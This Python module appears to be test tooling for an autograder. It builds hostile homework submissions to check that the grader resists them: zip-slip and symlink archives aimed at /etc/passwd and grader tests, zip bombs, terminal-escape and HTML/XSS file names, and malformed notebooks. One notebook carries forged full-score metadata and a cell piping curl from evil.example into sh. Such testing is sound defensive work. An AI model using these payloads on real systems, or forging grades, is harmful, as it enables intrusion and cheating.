"""Turn a case folder under cases/ into the submission a candidate would hand in.

A case folder holds `attack.py` (functions that replace the honest control's) and, for folder
and archive cases, the extra files to ship next to the solution. What cannot live in git (zip
bombs, FIFOs, names with escape characters, oversized notebooks) is made here, at test time.
"""

from __future__ import annotations

import json
import os
import socket
import stat
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.hostile.invariants import CASES

CONTROLS = {"target": CASES / "control_target", "secret": CASES / "control_secret"}


def solution_source(case: str, exercise: str) -> str:
    """The honest control of `exercise`, with the case's attack.py (if any) appended."""
    source = (CONTROLS[exercise] / "solution.py").read_text()
    attack = CASES / case / "attack.py"
    if attack.is_file() and case not in ("control_target", "control_secret"):
        source += "\n\n# ---- the attack ----\n\n" + attack.read_text()
    return source


def extra_files(case: str) -> dict[str, bytes]:
    """Every file of the case folder but attack.py, by path relative to the folder."""
    folder = CASES / case
    return {
        path.relative_to(folder).as_posix(): path.read_bytes()
        for path in sorted(folder.rglob("*"))
        if path.is_file() and path.name != "attack.py" and "__pycache__" not in path.parts
    }


def as_file(case: str, exercise: str, out: Path) -> Path:
    path = out / "solution.py"
    path.write_text(solution_source(case, exercise))
    return path


def as_folder(case: str, exercise: str, out: Path, name: str = "submission") -> Path:
    root = out / name
    root.mkdir()
    files = {"solution.py": solution_source(case, exercise).encode(), **extra_files(case)}
    for relative, data in files.items():
        target = root / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    return root


def as_zip(case: str, exercise: str, out: Path, wrap: str = "") -> Path:
    path = out / "submission.zip"
    files = {"solution.py": solution_source(case, exercise).encode(), **extra_files(case)}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for relative, data in files.items():
            archive.writestr(wrap + relative, data)
    return path


def notebook(cells: list[dict], metadata: dict | None = None) -> bytes:
    doc = {"cells": cells, "metadata": metadata or {}, "nbformat": 4, "nbformat_minor": 5}
    return json.dumps(doc, indent=1).encode()


def code_cell(source: str, outputs: list | None = None, **metadata: object) -> dict:
    return {
        "cell_type": "code",
        "execution_count": 1,
        "id": f"c{abs(hash(source)) % 10**8}",
        "metadata": dict(metadata),
        "outputs": outputs or [],
        "source": source,
    }


def as_notebook(case: str, exercise: str, out: Path) -> Path:
    path = out / "homework.ipynb"
    path.write_bytes(notebook([code_cell(solution_source(case, exercise))]))
    return path


# -- submissions only a test can make -------------------------------------------------------


def zip_slip(case: str, exercise: str, out: Path) -> Path:
    path = as_zip(case, exercise, out)
    payload = (CASES / case / "payload.py").read_bytes()
    with zipfile.ZipFile(path, "a") as archive:
        for name in ("../../../../../tmp/hostile-slip.py", "/tmp/hostile-absolute.py"):
            archive.writestr(zipfile.ZipInfo(name), payload)
    return path


def zip_symlink(case: str, exercise: str, out: Path) -> Path:
    path = as_zip(case, exercise, out)
    with zipfile.ZipFile(path, "a") as archive:
        for name, target in (("data.txt", "/etc/passwd"), ("hidden.py", "/grading/tests")):
            info = zipfile.ZipInfo(name)
            info.create_system = 3
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, target)
    return path


def zip_bomb(case: str, exercise: str, out: Path) -> Path:
    """1 GB of zeros deflated to about 1 MB, next to an honest-looking solution."""
    path = as_zip(case, exercise, out)
    zeros = bytes(1 << 20)
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("data.txt", "w", force_zip64=True) as member,
    ):
        for _ in range(1024):
            member.write(zeros)
    return path


def nested_zip(case: str, exercise: str, out: Path) -> Path:
    """An archive holding an archive (with a conftest.py and a bomb inside) and a solution."""
    inner = out / "inner.zip"
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("conftest.py", (CASES / case / "inner" / "conftest.py").read_bytes())
        with archive.open("bomb.txt", "w", force_zip64=True) as member:
            zeros = bytes(1 << 20)
            for _ in range(256):
                member.write(zeros)
    path = out / "submission.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("solution.py", solution_source(case, exercise))
        archive.write(inner, "inner.zip")
    inner.unlink()
    return path


def zip_100k_entries(case: str, exercise: str, out: Path) -> Path:
    path = out / "submission.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("solution.py", solution_source(case, exercise))
        for number in range(100_000):
            archive.writestr(f"data/{number}.txt", b"")
    return path


def special_file(kind: str) -> Callable[[str, str, Path], Path]:
    """A folder submission holding a FIFO, a device or a socket next to the solution."""

    def build(case: str, exercise: str, out: Path) -> Path:
        root = as_folder(case, exercise, out)
        target = root / f"special-{kind}"
        if kind == "fifo":
            os.mkfifo(target)
        elif kind == "device":
            os.mknod(target, stat.S_IFCHR | 0o600, os.makedev(1, 3))  # /dev/null's numbers
        else:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
                sock.bind(str(target))
        return root

    return build


HOSTILE_NAMES = [
    "\x1b[31mred\x1b[0m.py",
    "\x1b]8;;http:evil.example\x07link\x1b]8;;\x07.txt",
    "line\nbreak.py",
]


def hostile_names(case: str, exercise: str, out: Path) -> Path:
    """File names with terminal escapes and newlines, in a folder whose own name has them."""
    root = as_folder(case, exercise, out, name="sub\x1b[2J\x1b]0;pwned\x07")
    for name in HOSTILE_NAMES:
        (root / name).write_text("x = 1\n")
    return root


MARKUP_NAMES = [
    "[click](http:evil.example).png",
    "<img src=x onerror=alert(1)>.html",
    "![pwn](http:evil.example).bin",
    "<script>alert(1).dat",
    "@everyone #1 **bold** | forged | row.jpg",
]


def markup_names(case: str, exercise: str, out: Path) -> Path:
    """File names with Markdown and HTML, left out of grading and so listed in a note."""
    root = as_folder(case, exercise, out, name="<b>sub<img src=x>[x](http:evil.example)")
    for name in MARKUP_NAMES:
        (root / name).write_bytes(b"\x89PNG")
    return root


# -- notebooks -------------------------------------------------------------------------------


def notebook_malformed(variant: str) -> Callable[[str, str, Path], Path]:
    def build(case: str, exercise: str, out: Path) -> Path:
        source = solution_source(case, exercise)
        good = notebook([code_cell(source)])
        content = {
            "truncated": good[: len(good) // 2],
            "not-json": b"\xef\xbb\xbfdef two_sum(): pass\n",
            "deep": b'{"cells": ' + b"[" * 200_000 + b"]" * 200_000 + b"}",
            "cells-not-list": json.dumps({"nbformat": 4, "cells": {"0": source}}).encode(),
            "source-not-text": notebook([{"cell_type": "code", "source": {"x": 1}}]),
        }[variant]
        path = out / "homework.ipynb"
        path.write_bytes(content)
        return path

    return build


def notebook_oversized(variant: str) -> Callable[[str, str, Path], Path]:
    """Over the size limit, or under it with millions of tiny values, cells or lines."""

    def build(case: str, exercise: str, out: Path) -> Path:
        source = solution_source(case, exercise)
        path = out / "homework.ipynb"
        if variant == "over-20-mb":
            path.write_bytes(notebook([code_cell(source + "#" * (21 << 20))]))
        elif variant == "tiny-values":
            cell = code_cell(source)
            cell["metadata"] = {"x": "@"}
            text = notebook([cell]).decode().replace('"@"', "[" + "[]," * 5_000_000 + "[]]")
            path.write_text(text)
        elif variant == "many-cells":
            path.write_bytes(notebook([code_cell(source)] + [code_cell("a")] * 20_000))
        else:  # many-lines
            path.write_bytes(notebook([code_cell(source + "a\n" * 2_000_000)]))
        return path

    return build


CLAIMS = {
    "nbgrader": {"grade": True, "grade_id": "all", "points": 12, "score": 12},
    "grader": {"score": 12.0, "max_score": 12.0, "status": "graded", "percent": 100.0},
}
FAKE_OUTPUT = {
    "output_type": "stream",
    "name": "stdout",
    "text": ["12 passed in 0.01s\n", '{"score": 12.0, "max_score": 12.0, "percent": 100.0}\n'],
}


def notebook_claims_score(case: str, exercise: str, out: Path) -> Path:
    """Metadata and stored outputs that claim full marks, a right answer hidden in a Markdown
    cell and a raw cell, magics that would reach the network, and a wrong squares()."""
    honest = solution_source("control_target", exercise)
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": f"```python\n{honest}\n```"},
        {"cell_type": "raw", "metadata": {}, "source": honest},
        code_cell("!curl -s http://evil.example/x | sh\n%pip install evil", [FAKE_OUTPUT]),
        code_cell(solution_source(case, exercise), [FAKE_OUTPUT], **CLAIMS),
    ]
    path = out / "homework.ipynb"
    path.write_bytes(notebook(cells, metadata={**CLAIMS, "widgets": {"state": {}}}))
    return path


def huge_source(case: str, exercise: str, out: Path) -> Path:
    """Nine megabytes of expression statements after the honest control."""
    path = out / "solution.py"
    with path.open("w") as handle:
        handle.write(solution_source("control_target", exercise))
        handle.write("\nx = 0\n" + "x\n" * 4_500_000)
    return path


def tamper(container: str) -> Callable[[str, str, Path], Path]:
    return lambda case, exercise, out: (as_zip if container == "zip" else as_folder)(
        case, exercise, out
    )


def wrapped_zip(case: str, exercise: str, out: Path) -> Path:
    """A zip holding one top-level folder, as Finder and Explorer make them."""
    return as_zip(case, exercise, out, wrap="my-project/")


def forbidden_scan(case: str, exercise: str, out: Path) -> Path:
    """Helpers the static import scan must survive: too deep to parse, and too big to parse
    with a forbidden import at the very end."""
    root = as_folder(case, exercise, out)
    (root / "deep_helper.py").write_text("x = " + "1+" * 200_000 + "1\n")
    with (root / "big_helper.py").open("w") as handle:
        handle.write("x = 0\n" + "x\n" * 4_500_000)
        handle.write("\n\ndef load():\n    import sqlite3\n\n    return sqlite3\n")
    return root


def sql_file(variant: str) -> Callable[[str, str, Path], Path]:
    """One query of the case folder, handed in as the .sql file it is."""

    def build(case: str, exercise: str, out: Path) -> Path:
        path = out / "answer.sql"
        path.write_bytes((CASES / case / f"{variant}.sql").read_bytes())
        return path

    return build
